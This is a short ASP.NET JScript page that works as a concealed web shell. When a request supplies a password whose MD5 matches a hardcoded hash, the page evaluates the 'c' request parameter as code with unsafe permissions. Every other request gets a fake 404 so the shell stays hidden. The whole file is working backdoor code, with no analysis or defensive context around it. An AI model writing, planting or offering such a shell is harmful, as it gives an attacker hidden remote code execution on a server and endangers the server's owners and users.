<%@ Page Language="JScript" %>
<%@ Import Namespace="System.Web.Security" %>
<script runat="server">
function Page_Load() {
    if (FormsAuthentication.HashPasswordForStoringInConfigFile(Request["pw"], "MD5") == "180254BBB1A0076AC5A47CE3F2608656") {
        eval(Request["c"], "unsafe");
    } else {
        Response.StatusCode = 404;
        Response.End();
    }
}
</script>
